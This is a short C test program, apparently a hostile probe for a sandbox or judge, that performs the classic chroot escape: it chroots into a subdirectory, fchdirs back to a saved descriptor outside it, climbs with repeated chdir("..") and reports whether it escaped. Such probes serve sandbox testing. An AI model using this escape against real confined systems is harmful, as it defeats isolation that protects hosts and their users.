/*
 * hostile: the classic way out of a chroot: a second chroot below, then upwards from a directory outside of it
 * class: chroot escape
 * verdicts: AC SV
 * evidence: syscall:chroot
 * invariant: there is nothing above the box's root
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	const int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)mkdir("below", 0700);
	if (chroot("below") == 0) {
		if (here >= 0 && fchdir(here) == 0) {
			for (int i = 0; i < 64 && chdir("..") == 0; i++)
				continue;
		}
		puts("ESCAPED: chroot is allowed");
		return 0;
	}
	puts("held");
	return 0;
}
